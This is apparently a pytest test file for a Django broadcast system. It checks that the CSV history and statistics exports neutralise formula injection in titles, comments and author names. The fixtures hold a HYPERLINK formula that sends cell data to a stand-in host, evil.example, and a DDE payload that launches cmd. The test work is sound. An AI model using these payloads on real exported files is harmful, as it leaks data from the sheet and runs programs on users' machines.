"""CSV injection (OWASP): a title or a review comment typed to become a formula reaches the
exports as text. Staff open these files in Excel; a live ``=HYPERLINK(...)`` would send the
sheet's contents to whoever wrote the title, a DDE ``@SUM(...)|cmd`` would start a program."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import pytest
import time_machine
from django.urls import reverse

from broadcasts import services
from broadcasts.csvsafe import FORMULA_PREFIXES
from broadcasts.models import Broadcast, Category
from broadcasts.schedule import JST

NOW = datetime(2026, 11, 27, 10, 0, tzinfo=JST)
TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'
COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def hostile(drafter, reviewer, frozen) -> Broadcast:
    """A broadcast titled with a formula, rejected with a formula, then (for the statistics)
    sent; its author's name starts with ``+`` as a phone number would."""
    drafter.last_name = "+81-4-7167-1111"
    drafter.save(update_fields=["last_name"])
    broadcast = services.broadcast_create(
        author=drafter,
        title=TITLE,
        categories=[Category.objects.get(code="childcare_education")],
        messages=[{"type": "text", "text": "子育て支援センターのお知らせ"}],
    )
    services.broadcast_submit(broadcast=broadcast, actor=drafter)
    services.broadcast_reject(broadcast=broadcast, actor=reviewer, comment=COMMENT)
    Broadcast.objects.filter(pk=broadcast.pk).update(
        status=Broadcast.Status.SENT, sent_at=NOW - timedelta(hours=1), recipient_count=1200
    )
    return broadcast


def download(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]
    assert live == []


def test_history_export_quotes_formulas_in_titles_and_comments(client, reviewer, hostile):
    client.force_login(reviewer)
    rows = download(client, reverse("broadcasts:history_csv"))
    cells = [cell for row in rows for cell in row]
    assert "'" + TITLE in cells
    assert "'" + COMMENT in cells
    assert "'+81-4-7167-1111" in cells
    assert TITLE not in cells and COMMENT not in cells
    assert_no_live_formula(rows)


def test_stats_export_quotes_formulas_and_keeps_numbers(client, reviewer, hostile):
    client.force_login(reviewer)
    rows = download(client, reverse("broadcasts:stats_csv"))
    header, row = rows[0], next(r for r in rows[1:] if r[0] == str(hostile.pk))
    assert row[header.index("件名")] == "'" + TITLE
    assert row[header.index("起案者")] == "'+81-4-7167-1111"
    assert row[header.index("宛先数")] == "1200"  # numbers stay numbers
    assert_no_live_formula(rows)
